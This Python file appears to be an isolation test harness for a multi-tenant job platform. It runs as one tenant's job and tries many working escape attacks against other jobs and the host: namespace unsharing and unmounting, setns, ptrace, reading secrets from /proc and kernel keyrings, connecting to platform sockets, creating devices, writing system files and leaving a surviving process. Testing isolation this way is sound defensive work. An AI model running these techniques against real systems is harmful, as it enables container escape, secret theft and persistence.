"""The attacker's program: runs as a job of one project and tries what it can against another's, against
the platform and against the machine.

Rule: standard library only, one function per attack; what it returns is the evidence of success, empty
when the attack failed. It prints one JSON object: attack to evidence. It is told where its victim is by
the JSON in `INTRUDER_KNOWS`: everything that an insider could find out, so that no attack fails for want
of an address.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import signal
import socket
import stat
import sys
from collections.abc import Callable, Iterator
from typing import Any

KNOWS: dict[str, Any] = json.loads(os.environ.get("INTRUDER_KNOWS", "{}"))
SECRET: str = KNOWS.get("secret", "")
CONNECT_S = 1.0
CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
LAZILY = 2  # MNT_DETACH
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
IPC_READ_ONLY = 0o10000
KEY_SERIAL, KEY_LINK, KEY_READ, OF_THE_PROCESS = 0, 8, 11, -2
_LIBC = ctypes.CDLL(None, use_errno=True)
ATTACKS: dict[str, Callable[[], str]] = {}


def attack(function: Callable[[], str]) -> Callable[[], str]:
    """Register it under its name."""
    ATTACKS[function.__name__] = function
    return function


def files_below(folder: str) -> Iterator[str]:
    for where, _, names in os.walk(folder):
        yield from (os.path.join(where, name) for name in names)


def content(path: str) -> bytes:
    """The beginning of a regular file; empty when it cannot be read."""
    with contextlib.suppress(OSError):
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            if stat.S_ISREG(os.fstat(descriptor).st_mode):
                return os.read(descriptor, 65_536)
        finally:
            os.close(descriptor)
    return b""


def is_own(path: str) -> bool:
    own = os.path.dirname(os.environ.get("HEADRACE_OUTPUT_DIR", "/nowhere"))
    return path.startswith((own + "/", os.environ.get("VIRTUAL_ENV", "/nowhere") + "/"))


@attack
def run_as_root() -> str:
    return "uid 0" if 0 in os.getresuid() + os.getresgid() else ""


@attack
def run_as_the_platforms_account() -> str:
    uid = KNOWS.get("platform_uid")
    return f"uid {uid}" if KNOWS.get("has_accounts") and uid in os.getresuid() else ""


@attack
def keep_capabilities() -> str:
    with open("/proc/self/status") as status:
        lines = [line.split() for line in status]
    held = {
        name: int(value, 16)
        for name, value, *_ in lines
        if name in ("CapPrm:", "CapEff:", "CapAmb:")
    }
    return str(held) if any(held.values()) else ""


@attack
def gain_privileges_by_a_setuid_program() -> str:
    with open("/proc/self/status") as status:
        return next(
            (line for line in status if line.startswith("NoNewPrivs:") and "1" not in line), ""
        )


@attack
def read_the_platforms_files() -> str:
    found = []
    for folder in KNOWS.get("platform_folders", ()):
        found += [path for path in files_below(folder) if not is_own(path) and content(path)]
        found += [path for path in KNOWS.get("key_files", ()) if content(path)]
    return " ".join(found[:5])


@attack
def read_the_platforms_files_past_the_mounts() -> str:
    """In a user and mount namespace of its own, take away what covers them."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        said = b""
        if _LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0:
            with contextlib.suppress(OSError), open("/proc/self/setgroups", "w") as file:
                file.write("deny")
            with contextlib.suppress(OSError), open("/proc/self/uid_map", "w") as file:
                file.write(f"0 {os.getuid()} 1")
            with open("/proc/self/mountinfo") as file:
                mounts = [line.split()[4] for line in file]
            for mount in reversed(mounts):
                _LIBC.umount2(mount.encode(), LAZILY)
            said = (read_the_platforms_files() or read_anothers_files()).encode()
        os.write(writer, said[:4096])
        os._exit(0)
    os.close(writer)
    os.waitpid(pid, 0)
    return os.read(reader, 4096).decode()


@attack
def enter_another_namespace() -> str:
    found = []
    for pid in ("1", str(os.getppid()), *map(str, KNOWS.get("pids", ()))):
        for kind in ("mnt", "pid", "user", "ipc"):
            with contextlib.suppress(OSError):
                descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
                if kind != "user" and _LIBC.setns(descriptor, 0) == 0:
                    found.append(f"{kind} of {pid}")
                os.close(descriptor)
    return " ".join(found)


@attack
def reach_the_host_through_another_process_root() -> str:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for path in KNOWS.get("key_files", ()):
            if content(f"/proc/{pid}/root{path}") or content(f"/proc/{pid}/cwd/{path}"):
                return f"/proc/{pid}/root{path}"
    return ""


@attack
def read_a_secret_in_proc() -> str:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline"):
            if SECRET.encode() in content_of_proc(pid, name) and not is_mine(pid):
                return f"/proc/{pid}/{name}"
    return ""


def content_of_proc(pid: str, name: str) -> bytes:
    with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
        return file.read(1_048_576)
    return b""


def is_mine(pid: str) -> bool:
    return os.environ["HEADRACE_JOB_ID"].encode() in content_of_proc(pid, "environ")


@attack
def see_processes_of_others() -> str:
    """Own ones are this program, its ancestors inside its namespace, and an init."""
    strangers = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if is_mine(pid):
            continue
        line = content_of_proc(pid, "cmdline").replace(b"\0", b" ").decode(errors="replace")
        if any(
            word in line
            for word in ("headrace.gateway", "headrace.placement", "nats-server", "postgres:")
        ):
            strangers.append(line)
        if SECRET and SECRET in line:
            strangers.append(line)
    return " | ".join(strangers)[:400]


@attack
def signal_another_job_or_the_platform() -> str:
    found = []
    for pid in KNOWS.get("pids", ()):
        with contextlib.suppress(OSError):
            os.kill(pid, 0)
            if names_a_stranger(pid):
                found.append(str(pid))
    with contextlib.suppress(OSError):
        os.kill(os.getppid(), 0)
        if os.getppid() not in (0, 1) and not is_mine(str(os.getppid())):
            found.append(f"parent {os.getppid()}")
    return " ".join(found)


def names_a_stranger(pid: int) -> bool:
    """A number of the host may name a process of this job's own in its namespace."""
    return pid != os.getpid() and not is_mine(str(pid)) and pid != 1


@attack
def trace_another_job() -> str:
    for pid in KNOWS.get("pids", ()):
        if names_a_stranger(pid) and _LIBC.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
            with contextlib.suppress(OSError):
                os.waitpid(pid, 0x40000000)
            _LIBC.ptrace(PTRACE_DETACH, pid, 0, 0)
            return f"pid {pid}"
    return ""


@attack
def read_anothers_files() -> str:
    for folder in KNOWS.get("victim_folders", ()):
        for path in files_below(folder):
            if SECRET.encode() in content(path):
                return path
    return ""


@attack
def list_anothers_folders() -> str:
    for folder in KNOWS.get("victim_folders", ()):
        with contextlib.suppress(OSError):
            if os.listdir(folder) and not is_own(folder):
                return folder
    return ""


@attack
def change_anothers_files() -> str:
    for folder in KNOWS.get("victim_folders", ()):
        for path in (*files_below(folder), f"{folder}/planted-by-{os.getpid()}"):
            if is_own(path):
                continue
            with contextlib.suppress(OSError):
                os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND | os.O_NONBLOCK))
                if folder_is_real(folder):
                    return path
    return ""


def folder_is_real(folder: str) -> bool:
    """Whether it is the victim's, not an empty one that covers it."""
    return any(name for name in os.listdir(folder) if not name.startswith("planted-by-"))


@attack
def find_anothers_temporary_files() -> str:
    found = []
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock"):
        found += [path for path in files_below(folder) if SECRET.encode() in content(path)]
    return " ".join(found)


@attack
def attach_anothers_shared_memory() -> str:
    key = KNOWS.get("shm_key", 0)
    if not key:
        return ""
    segment = _LIBC.shmget(key, 1, 0)
    return f"segment {segment}" if segment >= 0 else ""


@attack
def read_a_key_in_anothers_keyring() -> str:
    """Whoever may link a keyring into one of its own may read what is in it."""
    keyctl = {"x86_64": 250}.get(os.uname().machine, 219)
    found = []
    with contextlib.suppress(OSError), open("/proc/keys") as file:
        lines = [line.split() for line in file]
        found = [" ".join(words[8:]) for words in lines if "victim-" in " ".join(words)]
        own = _LIBC.syscall(keyctl, KEY_SERIAL, OF_THE_PROCESS, 1)
        for words in lines:
            serial, room = int(words[0], 16), ctypes.create_string_buffer(4096)
            _LIBC.syscall(keyctl, KEY_LINK, serial, own)
            size = _LIBC.syscall(keyctl, KEY_READ, serial, room, len(room))
            if size > 0 and SECRET.encode() in room.raw[:size]:
                found.append(f"key {serial}")
    return " ".join(found)


@attack
def find_anothers_control_groups() -> str:
    """It guesses their names. Whoever sees a group there learns when that attempt began and ended."""
    found = [path for path in KNOWS.get("groups", ()) if os.path.exists(path)]
    names = {os.path.basename(path) for path in KNOWS.get("groups", ())}
    for folder, below, _ in os.walk("/sys/fs/cgroup"):
        found += [f"{folder}/{name}" for name in below if name in names]
    return " ".join(found)


@attack
def take_all_terminals_of_the_machine() -> str:
    opened = []
    try:
        while len(opened) <= KNOWS.get("terminals_max", 0):
            opened.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
    except OSError:
        return ""
    finally:
        for terminal in opened:
            os.close(terminal)
    return f"{len(opened)} terminals"


@attack
def see_terminals_of_others() -> str:
    near, far = os.openpty()
    own = os.ttyname(far)
    os.close(near)
    os.close(far)
    return " ".join(
        {f"/dev/pts/{name}" for name in os.listdir("/dev/pts")} - {own, "/dev/pts/ptmx"}
    )


@attack
def reach_a_device_behind_a_covered_file() -> str:
    """What covers a hidden file must be nothing of the machine's: not even its owner could be trusted."""
    found = []
    for path in (*KNOWS.get("key_files", ()), *KNOWS.get("platform_sockets", ())):
        with contextlib.suppress(OSError):
            if stat.S_ISCHR(os.lstat(path).st_mode):
                found.append(path)
    return " ".join(found)


def connected(family: int, kind: int, address: Any) -> bytes:
    with socket.socket(family, kind) as client:
        client.settimeout(CONNECT_S)
        try:
            client.connect(address)
            with contextlib.suppress(OSError):  # it may have answered and gone before it is asked
                client.send(b"GET / HTTP/1.0\r\n\r\n")
            return client.recv(4096)
        except OSError:
            return b""


@attack
def connect_to_anothers_loopback_tcp() -> str:
    found = [
        f"{host}:{port}"
        for port in KNOWS.get("tcp_ports", ())
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"))
        if SECRET.encode() in connected(family, socket.SOCK_STREAM, (host, port))
    ]
    return " ".join(found)


@attack
def connect_to_anothers_loopback_udp() -> str:
    found = [
        str(port)
        for port in KNOWS.get("udp_ports", ())
        if SECRET.encode() in connected(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", port))
    ]
    return " ".join(found)


@attack
def connect_to_anothers_sockets() -> str:
    found = [
        repr(address)
        for address in KNOWS.get("unix_sockets", ())
        if connected(socket.AF_UNIX, socket.SOCK_STREAM, address.replace("@", "\0", 1))
    ]
    return " ".join(found)


@attack
def open_anothers_workspace() -> str:
    """Where it listens, and by every way to that."""
    path, port = KNOWS.get("workspace_socket", ""), KNOWS.get("workspace_port", 0)
    listed: list[str] = []
    with contextlib.suppress(OSError), open("/proc/net/unix") as file:
        listed = [line.split()[-1] for line in file if line.rstrip().endswith(f"{port}.sock")]
    folder, name = os.path.split(path)
    ways = [path, *(f"/proc/{pid}/root{path}" for pid in KNOWS.get("pids", ())), *listed]
    with contextlib.suppress(OSError):
        ways.append(f"/proc/self/fd/{os.open(folder, os.O_PATH)}/{name}")
    found = [way for way in ways if connected(socket.AF_UNIX, socket.SOCK_STREAM, way)]
    if connected(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)):
        found.append(str(port))
    return " ".join(found)


@attack
def connect_to_the_platforms_sockets() -> str:
    """The launcher's, the database's: whoever may connect there starts programs or reads the log."""
    found = []
    for folder in KNOWS.get("platform_folders", ()):
        for path in files_below(folder):
            with contextlib.suppress(OSError):
                if stat.S_ISSOCK(os.stat(path).st_mode) and not is_own(path):
                    with socket.socket(socket.AF_UNIX) as client:
                        client.connect(path)
                        found.append(path)
    for path in KNOWS.get("platform_sockets", ()):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            client.settimeout(CONNECT_S)
            client.connect(path)
            if client.recv(1):
                found.append(path)
    return " ".join(found)


@attack
def open_a_device_of_another() -> str:
    found = []
    for path in KNOWS.get("devices", ()):
        with contextlib.suppress(OSError):
            descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
            if os.fstat(descriptor).st_rdev in KNOWS.get("device_numbers", ()):
                found.append(path)
            os.close(descriptor)
    return " ".join(found)


@attack
def make_a_device() -> str:
    for number in KNOWS.get("device_numbers", ()):
        path = f"/tmp/made-{os.getpid()}"
        with contextlib.suppress(OSError):
            os.mknod(path, 0o600 | stat.S_IFCHR, number)
            return path
    return ""


@attack
def write_to_the_machine() -> str:
    found = []
    places = (
        "/etc",
        "/usr/bin",
        "/sys/fs/cgroup",
        "/sys/fs/cgroup/memory",
        "/proc/sys/kernel",
        sys.prefix,
    )
    for place in places:
        path = f"{place}/planted-{os.getpid()}"
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
            os.unlink(path)
            found.append(place)
    with contextlib.suppress(OSError):
        os.close(os.open("/proc/sys/kernel/hostname", os.O_WRONLY))
        found.append("/proc/sys/kernel/hostname")
    return " ".join(found)


@attack
def change_a_prepared_environment() -> str:
    """The interpreter and packages that other jobs run with."""
    for path in KNOWS.get("environments", ()):
        for name in (f"{path}/bin/python3", f"{path}/pyvenv.cfg", f"{path}/planted"):
            with contextlib.suppress(OSError):
                os.close(os.open(name, os.O_WRONLY | os.O_CREAT))
                return name
    return ""


@attack
def outlive_its_job() -> str:
    """Leaves a process in a session of its own, twice forked; the test looks for its mark afterwards."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            os.environ.clear()
            mark = f"outlives-{KNOWS.get('mark', '')}"
            os.execv("/bin/sh", ["/bin/sh", "-c", f"trap '' TERM HUP; sleep 600 # {mark}"])
        os._exit(0)
    os.wait()
    return ""


def main() -> None:
    """Try them all. An attack that raises has failed, and says how."""
    told: dict[str, str] = {}
    for name, function in ATTACKS.items():
        try:
            told[name] = function()
        except Exception as error:
            print(f"{name}: {type(error).__name__}: {error}", file=sys.stderr)
            told[name] = ""
    print(json.dumps(told), flush=True)


if __name__ == "__main__":
    main()
